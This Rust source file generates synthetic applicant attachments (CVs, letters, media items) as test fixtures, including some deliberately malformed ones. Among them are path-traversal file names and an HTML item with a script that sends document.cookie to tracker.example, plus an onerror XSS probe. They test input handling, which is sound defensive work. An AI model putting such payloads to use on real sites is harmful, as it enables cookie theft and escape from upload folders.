//! The attachments of a sample applicant: which there are, and their bytes, made only when asked for. Some are odd on
//! purpose: empty, mislabelled, truncated, named to climb out of their folder. Names begin with the seminar's key for
//! that attachment (`letters-2.pdf`).

use serde::Serialize;

use crate::applicant::Applicant;
use crate::pdf::{self, Block};
use crate::rng::Rng;

/// What an attachment is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum FileKind {
    /// Curriculum vitae.
    Cv,
    /// Recommendation letter.
    Letter,
    /// Media coverage.
    Media,
    /// Proof of network building.
    Network,
    /// Proof for the exception route.
    Exception,
    /// Anything else that people send.
    Other,
}

/// How the bytes of an attachment are made.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Content {
    /// A PDF with the applicant's name in its own script.
    Cv,
    /// The letter of this referee (0 or 1) as plain text.
    LetterText(usize),
    /// The letter of this referee (0 or 1) as a mail.
    LetterMail(usize),
    /// The letter of this referee (0 or 1) as a PDF.
    LetterPdf(usize),
    /// The letter of this referee in ISO 8859-1, which is not UTF-8.
    LetterLatin1(usize),
    /// This media item as plain text.
    MediaText(usize),
    /// This media item as a web page.
    MediaHtml(usize),
    /// This media item as a web page with a script and a remote image.
    MediaActiveHtml(usize),
    /// This media item as a picture.
    MediaPng(usize),
    /// The network's proof as a PDF.
    Network,
    /// The proof for the exception route as a PDF.
    Exception,
    /// No bytes at all.
    Empty,
    /// A web page, whatever the name says.
    HtmlMislabelled,
    /// The first 60 % of a PDF.
    TruncatedPdf,
    /// A picture of one pixel.
    OnePixel,
    /// One line of text.
    Note,
    /// A PDF header and then nothing up to the size asked for; written only on request.
    Oversize,
}

/// One attachment, described.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FileSpec {
    /// The name the applicant gave; it may contain anything, `../` too.
    pub name: String,
    /// What it is for.
    pub kind: FileKind,
    /// How its bytes are made.
    pub content: Content,
}

impl FileSpec {
    /// Returns whether this name can be a file inside the applicant's folder; the others stand in the table alone.
    #[must_use]
    pub fn fits_in_folder(&self) -> bool {
        !self.name.is_empty() && !self.name.contains(['/', '\0']) && self.name != "." && self.name != ".."
    }
}

/// Decides which attachments the applicant at `index` hands in.
pub(crate) fn plan(index: usize, applicant: &Applicant) -> Vec<FileSpec> {
    let mut files = vec![spec("cv.pdf", FileKind::Cv, Content::Cv)];
    for (which, referee) in applicant.referees.iter().enumerate() {
        if referee.letter.is_none() {
            continue;
        }
        let number = which + 1;
        let (extension, content) = match (index + which) % 4 {
            _ if index == 22 => ("txt", Content::LetterLatin1(which)),
            _ if index == 30 => ("txt", Content::LetterText(which)),
            0 => ("eml", Content::LetterMail(which)),
            _ => ("pdf", Content::LetterPdf(which)),
        };
        files.push(spec(&format!("letters-{number}.{extension}"), FileKind::Letter, content));
    }
    for which in 0..applicant.media.len() {
        let number = which + 1;
        let (extension, content) = match (index + which) % 3 {
            _ if index == 20 => ("html", Content::MediaActiveHtml(which)),
            0 => ("html", Content::MediaHtml(which)),
            1 => ("png", Content::MediaPng(which)),
            _ => ("txt", Content::MediaText(which)),
        };
        files.push(spec(&format!("media-{number}.{extension}"), FileKind::Media, content));
    }
    files.push(spec("network-proof.pdf", FileKind::Network, Content::Network));
    if applicant.exception.as_ref().is_some_and(|e| e.proof) {
        files.push(spec("outstanding-proof.pdf", FileKind::Exception, Content::Exception));
    }
    files.extend(odd(index, applicant));
    files
}

/// The odd files, each at a fixed index.
fn odd(index: usize, applicant: &Applicant) -> Vec<FileSpec> {
    let other = |name: &str, content| spec(name, FileKind::Other, content);
    match index {
        4 => vec![other("publications.txt", Content::Empty)],
        6 => vec![other("certificate.pdf", Content::HtmlMislabelled)],
        8 => vec![
            other("../A001/cv.pdf", Content::Note),
            other("..\\..\\outside.txt", Content::Note),
            other("..%2F..%2Foutside.txt", Content::Note),
        ],
        10 => vec![other(
            &format!("{}.txt", "a very long name of a scanned page ".repeat(7).trim_end()),
            Content::Note,
        )],
        12 => vec![other("diploma.pdf", Content::TruncatedPdf)],
        14 => vec![other("seal.png", Content::OnePixel)],
        16 => vec![other("archive-scan.pdf", Content::Oversize)],
        24 => vec![other(&format!("{} – प्रमाण पत्र.txt", applicant.name), Content::Note)],
        26 => vec![other("note", Content::Note)],
        _ => Vec::new(),
    }
}

fn spec(name: &str, kind: FileKind, content: Content) -> FileSpec {
    FileSpec { name: name.to_owned(), kind, content }
}

/// Makes the bytes of one attachment. The same applicant and description give the same bytes.
#[must_use]
pub fn render(applicant: &Applicant, file: &FileSpec) -> Vec<u8> {
    match file.content {
        Content::Cv => cv(applicant),
        Content::LetterText(which) => letter(applicant, which).into_bytes(),
        Content::LetterLatin1(which) => {
            let text = letter(applicant, which).replace("yours", "Ihr ergebener Größe");
            format!("{text}\nÀ bientôt, señor.\n")
                .chars()
                .map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?'))
                .collect()
        }
        Content::LetterPdf(which) => {
            pdf::render("Recommendation", &[Block::Paragraph(letter(applicant, which))])
        }
        Content::MediaText(which) => media_text(applicant, which).into_bytes(),
        Content::MediaHtml(which) => html(applicant, which, "").into_bytes(),
        Content::MediaActiveHtml(which) => {
            let active = "<script>fetch('https://tracker.example/?'+document.cookie)</script>\n\
                          <img src=\"https://tracker.example/pixel.png\" onerror=\"alert(1)\">\n";
            html(applicant, which, active).into_bytes()
        }
        Content::MediaPng(which) => clipping(applicant, which),
        Content::Network => {
            let blocks =
                [Block::Heading(applicant.project.clone()), Block::Paragraph(applicant.network.clone())];
            pdf::render("Network", &blocks)
        }
        Content::LetterMail(which) => mail(applicant, which).into_bytes(),
        Content::Exception => {
            let reason = applicant.exception.as_ref().map_or("", |e| e.reason.as_str());
            let blocks = [
                Block::Heading("Proof for the exception route".to_owned()),
                Block::Paragraph(reason.to_owned()),
            ];
            pdf::render("Exception", &blocks)
        }
        Content::Empty => Vec::new(),
        Content::HtmlMislabelled => {
            b"<!doctype html>\n<title>Certificate</title>\n<p>This is a web page.</p>\n".to_vec()
        }
        Content::TruncatedPdf => {
            let mut whole = cv(applicant);
            whole.truncate(whole.len() / 5 * 3);
            whole
        }
        Content::OnePixel => png(1, 1, &[0x7f]),
        Content::Note => b"One line of text.\n".to_vec(),
        Content::Oversize => b"%PDF-1.7\n".to_vec(),
    }
}

fn cv(applicant: &Applicant) -> Vec<u8> {
    let line = |label: &str, value: &str| Block::Paragraph(format!("{label}: {value}"));
    let mut blocks = vec![
        Block::Heading(applicant.name_latin.clone()),
        Block::Heading(applicant.name.clone()),
        line("Address", &format!("{}, {}", applicant.city, applicant.country)),
        line("E-mail", &applicant.email),
        line("Telephone", &applicant.phone),
        line("Date of birth", &applicant.birth_date.to_string()),
        line("Languages", &applicant.languages.join(", ")),
        line("English", &applicant.english),
        line("Position", &applicant.position),
        Block::Paragraph(applicant.organisation.clone()),
        Block::Heading("Experience".to_owned()),
    ];
    blocks.extend(applicant.experience.iter().cloned().map(Block::Paragraph));
    blocks.push(Block::Heading("Project".to_owned()));
    blocks.push(Block::Paragraph(applicant.project.clone()));
    blocks.push(Block::Paragraph(applicant.network.clone()));
    if let Some(paragraph) = own_words(applicant) {
        blocks.push(Block::Heading("In my own words".to_owned()));
        blocks.push(Block::Paragraph(paragraph.to_owned()));
    }
    pdf::render("Curriculum vitae", &blocks)
}

/// Finds the first paragraph of the answers that is not in Latin letters.
fn own_words(applicant: &Applicant) -> Option<&str> {
    applicant.answers.iter().flat_map(|answer| answer.split("\n\n")).find(|paragraph| {
        let letters = || paragraph.chars().filter(|c| c.is_alphabetic());
        letters().filter(|c| *c > '\u{24f}').count() * 2 > letters().count()
    })
}

fn letter(applicant: &Applicant, which: usize) -> String {
    let Some(referee) = applicant.referees.get(which) else { return String::new() };
    let text = referee.letter.as_deref().unwrap_or_default();
    format!("To the selection committee\n\n{text}\n\nSincerely yours,\n{}\n{}\n", referee.name, referee.email)
}

/// Writes a letter as a mail of RFC 5322, body in UTF-8 as it is.
fn mail(applicant: &Applicant, which: usize) -> String {
    let Some(referee) = applicant.referees.get(which) else { return String::new() };
    format!(
        "From: {} <{}>\r\nTo: applications@seminar.example\r\nSubject: Recommendation\r\n\
         Date: Mon, 25 Mar 2019 09:00:00 +0000\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{}",
        referee.name,
        referee.email,
        letter(applicant, which).replace('\n', "\r\n")
    )
}

fn media_text(applicant: &Applicant, which: usize) -> String {
    applicant.media.get(which).map_or_else(String::new, |item| {
        format!("{}\n{}, {}\n{}\n\n{}\n", item.title, item.outlet, item.date, item.url, item.text)
    })
}

fn html(applicant: &Applicant, which: usize, extra: &str) -> String {
    let Some(item) = applicant.media.get(which) else { return String::new() };
    format!(
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>{title}</title></head><body>\n\
         <h1>{title}</h1>\n<p>{outlet}, {date}</p>\n<p>{text}</p>\n{extra}</body></html>\n",
        title = escape(&item.title),
        outlet = escape(&item.outlet),
        date = item.date,
        text = escape(&item.text),
    )
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// Draws what looks like a newspaper clipping from afar: dark bars of word length on light grey.
fn clipping(applicant: &Applicant, which: usize) -> Vec<u8> {
    const WIDTH: usize = 320;
    const HEIGHT: usize = 240;
    let seed = applicant.media.get(which).map_or(0, |item| item.url.bytes().map(u64::from).sum());
    let rng = &mut Rng::fork(seed, "clipping", which as u64);
    let mut pixels = vec![0xe8_u8; WIDTH * HEIGHT];
    for line in 0..HEIGHT / 12 - 2 {
        let top = 12 + line * 12;
        let mut x = 12;
        while x < WIDTH - 40 {
            let length = 6 + rng.below(26);
            for y in top..top + if line == 0 { 9 } else { 5 } {
                pixels[y * WIDTH + x..y * WIDTH + x + length].fill(0x30);
            }
            x += length + 5;
        }
    }
    png(320, 240, &pixels)
}

/// Encodes grey pixels, one byte each.
fn png(width: u32, height: u32, pixels: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut encoder = png::Encoder::new(&mut out, width, height);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.set_depth(png::BitDepth::Eight);
    let mut writer = encoder.write_header().expect("a small size that is not zero, into memory");
    writer.write_image_data(pixels).expect("one byte for each pixel, into memory");
    writer.finish().expect("memory does not fail");
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generate::generate;

    #[test]
    fn files_are_what_they_should_be() {
        let sample = generate(3, 60);
        for applicant in &sample.applicants {
            for file in &applicant.files {
                let bytes = render(applicant, file);
                assert_eq!(bytes, render(applicant, file), "{} {}", applicant.key, file.name);
                match file.content {
                    Content::Cv | Content::LetterPdf(_) | Content::Exception | Content::Network => {
                        assert!(bytes.starts_with(b"%PDF-"));
                        let tail = String::from_utf8_lossy(&bytes[bytes.len() - 64..]).into_owned();
                        assert!(tail.contains("startxref") && tail.trim_end().ends_with("%%EOF"), "{tail}");
                        assert!(has_xref(&bytes));
                    }
                    Content::TruncatedPdf => {
                        assert!(bytes.starts_with(b"%PDF-"));
                        assert!(!bytes.windows(5).any(|w| w == b"%%EOF"));
                    }
                    Content::MediaPng(_) | Content::OnePixel => {
                        assert!(bytes.starts_with(b"\x89PNG\r\n\x1a\n"))
                    }
                    Content::Empty => assert!(bytes.is_empty()),
                    Content::LetterLatin1(_) => assert!(String::from_utf8(bytes).is_err()),
                    _ => assert!(!bytes.is_empty()),
                }
            }
        }
    }

    /// Follows `startxref` to a table or a cross-reference stream.
    fn has_xref(pdf: &[u8]) -> bool {
        let text: String = pdf.iter().map(|b| char::from(*b)).collect();
        let at: usize =
            text.rsplit("startxref").next().unwrap().split_whitespace().next().unwrap().parse().unwrap();
        text[text.char_indices().nth(at).unwrap().0..].starts_with("xref")
            || pdf[at..].starts_with(b"xref")
            || {
                let object = String::from_utf8_lossy(&pdf[at..(at + 200).min(pdf.len())]).into_owned();
                object.contains("/XRef")
            }
    }

    #[test]
    fn no_name_leaves_its_folder() {
        let climbs: Vec<_> = generate(3, 60)
            .applicants
            .into_iter()
            .flat_map(|a| a.files)
            .filter(|f| !f.fits_in_folder())
            .collect();
        assert_eq!(climbs.len(), 1);
        assert_eq!(climbs[0].name, "../A001/cv.pdf");
    }
}
